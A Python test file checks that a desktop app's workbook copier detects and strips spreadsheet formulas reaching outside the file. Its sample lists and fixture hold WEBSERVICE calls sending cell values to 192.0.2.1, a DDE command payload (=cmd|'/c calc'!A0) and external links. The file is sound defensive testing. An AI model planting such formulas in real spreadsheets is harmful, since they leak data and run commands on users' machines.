"""A copy of somebody's workbook asks nothing of the network, of other files or of programs."""

from __future__ import annotations

import zipfile
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from desktop_app.sheets.output.original_workbook import OriginalWorkbook
from desktop_app.sheets.output.outside_links import NOT_FETCHED, reaches_outside
from tests.sheets.output.test_original_workbook import both_ways, way

__all__ = ["way"]

OUTSIDE = [
    '=WEBSERVICE("http://192.0.2.1/?"&A2)', '=_xlfn.WEBSERVICE("http://192.0.2.1/")', "=[1]Sheet1!A1", "=[1]!Far",
    "='[1]My Sheet'!A1", "=VLOOKUP(A2,[2]Data!$A:$B,2,0)", "=cmd|'/c calc'!A0", '=RTD("a",,"b")',
    '=_xlfn.IMAGE("http://192.0.2.1/a.png")', '=image ("http://192.0.2.1/a.png")',
]  # fmt: skip
INSIDE = [
    "=SUM(A1:A3)", "=Table1[Amount]*2", "=SUM(Table1[[#This Row],[A]:[B]])", '=A1&"|"&A2', '="[1]x!"&A1',
    "='Other sheet'!A1", '=HYPERLINK("http://192.0.2.1/","x")', '="WEBSERVICE("', "=MYIMAGES+1",
    "=Table1[A]+'Other sheet'!A1", "=Table1[A]+Data!A1",
]  # fmt: skip


@pytest.mark.parametrize("formula", OUTSIDE)
def test_what_reaches_outside_is_known(formula: str) -> None:
    assert reaches_outside(formula)


@pytest.mark.parametrize("formula", INSIDE)
def test_what_stays_inside_is_left(formula: str) -> None:
    assert not reaches_outside(formula)


def linked(path: Path) -> Path:
    """A list with formulas of both kinds, a name and a rule that reach outside."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Sheet1")
        sheet.write_row(0, 0, ["Name", "Mobile", "Web", "Sum"])
        for row in range(1, 4):
            sheet.write_row(row, 0, [f"P{row}", f"+44740012345{row}"])
            sheet.write_formula(row, 2, '=_xlfn.WEBSERVICE("http://192.0.2.1/"&A2)', None, f"was {row}")
            sheet.write_formula(row, 3, "=1+1", None, 2)
        sheet.write_formula(1, 4, "=cmd|'/c calc'!A0", None, 7)
        sheet.write_formula(2, 4, "=[1]Data!A1", None, "=not text")
        book.define_name("Far", "=[1]Data!$A$1")
        book.define_name("Near", "=Sheet1!$A$1")
        sheet.data_validation("F2", {"validate": "list", "source": "=[1]Data!$A$1:$A$3"})
        sheet.data_validation("G2", {"validate": "list", "source": "=$A$2:$A$3"})
        sheet.conditional_format("A2", {"type": "formula", "criteria": '=WEBSERVICE("http://192.0.2.1/")="x"'})
        sheet.conditional_format("A2", {"type": "formula", "criteria": "=$D$2=2"})
    return path


@both_ways
def test_a_copy_has_the_values_and_nothing_that_reaches_outside(tmp_path: Path) -> None:
    source, output = linked(tmp_path / "list.xlsx"), tmp_path / "out.xlsx"
    before = source.read_bytes()
    book = OriginalWorkbook(source, "Sheet1", output, 3)
    with closing(book):
        book.add(["Answer"], 1, 2).end()
        missing = book.save([])
    assert NOT_FETCHED in missing
    assert source.read_bytes() == before
    copy = openpyxl.load_workbook(output)
    sheet = copy["Sheet1"]
    assert [sheet.cell(row, 3).value for row in range(2, 5)] == ["was 1", "was 2", "was 3"]
    assert [sheet.cell(row, 4).value for row in range(2, 5)] == ["=1+1"] * 3
    assert (sheet["E2"].value, sheet["E3"].value) == (7, None)
    assert list(copy.defined_names) == ["Near"]
    assert [str(each.sqref) for each in sheet.data_validations.dataValidation] == ["G2"]
    with zipfile.ZipFile(output) as archive:
        everything = b"".join(map(archive.read, archive.namelist()))
        assert not any("externalLink" in name for name in archive.namelist())
    for sign in (b"WEBSERVICE", b"cmd|", b"[1]", b"192.0.2.1"):
        assert sign not in everything


@both_ways
def test_a_copy_of_a_workbook_of_its_own_is_as_before(tmp_path: Path) -> None:
    source = tmp_path / "list.xlsx"
    with xlsxwriter.Workbook(str(source)) as plain:
        plain.add_worksheet("Sheet1").write_formula(0, 0, "=1+1", None, 2)
    book = OriginalWorkbook(source, "Sheet1", tmp_path / "out.xlsx", 3)
    with closing(book):
        book.add(["Answer"], 1, 2).end()
        assert NOT_FETCHED not in book.save([])
    assert openpyxl.load_workbook(tmp_path / "out.xlsx")["Sheet1"]["A1"].value == "=1+1"
